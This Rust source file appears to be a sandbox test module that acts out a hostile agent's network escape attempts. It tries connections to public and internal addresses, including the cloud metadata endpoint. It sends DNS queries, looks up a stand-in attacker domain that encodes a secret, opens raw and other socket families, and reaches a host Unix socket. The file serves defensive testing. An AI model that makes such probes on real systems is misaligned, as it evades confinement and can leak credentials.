//! Attacks by the network: an agent without one can make no socket.

#![allow(
    clippy::disallowed_methods,
    clippy::disallowed_types,
    reason = "what a hostile program tries; nothing of it leaves the sandbox"
)]

use super::files::flags;
use crate::raw::{call, say};
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::os::unix::net::UnixStream;

fn connect(what: &str, address: &str) {
    say(&format!("{what} {address}"), TcpStream::connect(address));
}

pub fn direct_connections() {
    connect("connect to", "140.82.121.3:443");
    connect("connect to", "[2606:4700::1111]:443");
    connect("connect to", "127.0.0.1:3128");
    connect("connect to", "169.254.169.254:80");
    connect("connect to", "10.1.2.3:8080");
}

pub fn other_protocols() {
    connect("ssh to", "140.82.121.3:22");
    connect("ftp to", "140.82.121.3:21");
    connect("git to", "140.82.121.3:9418");
    connect("mail to", "140.82.121.3:25");
}

pub fn names() {
    say("ask 8.8.8.8:53", UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(b"?", "8.8.8.8:53")));
    connect("ask by tcp", "8.8.8.8:53");
    connect("ask by tls", "1.1.1.1:853");
    let found = ("a-secret.evil.example", 443).to_socket_addrs();
    let word = if found.is_ok() { "allowed" } else { "unknown" };
    println!("look up a-secret.evil.example: {word}");
}

pub fn families() {
    for (name, family, kind) in [
        ("raw", libc::AF_INET, libc::SOCK_RAW | libc::SOCK_NONBLOCK),
        ("ping", libc::AF_INET, libc::SOCK_DGRAM),
        ("netlink", libc::AF_NETLINK, libc::SOCK_RAW),
        ("packet", libc::AF_PACKET, libc::SOCK_RAW),
        ("vsock", libc::AF_VSOCK, libc::SOCK_STREAM),
        ("alg", libc::AF_ALG, libc::SOCK_SEQPACKET),
        ("bluetooth", libc::AF_BLUETOOTH, libc::SOCK_RAW),
    ] {
        let protocol = if name == "ping" { libc::IPPROTO_ICMP } else { 0 };
        let arguments = [flags(family), flags(kind), flags(protocol), 0, 0, 0];
        say(&format!("socket {name}"), call(libc::SYS_socket, arguments));
    }
}

pub fn sockets_of_the_host() {
    say("connect to a socket in the project", UnixStream::connect("/project/host.sock"));
    say("socket unix", call(libc::SYS_socket, [flags(libc::AF_UNIX), 1, 0, 0, 0, 0]));
    say("may make a connected pair", UnixStream::pair());
}
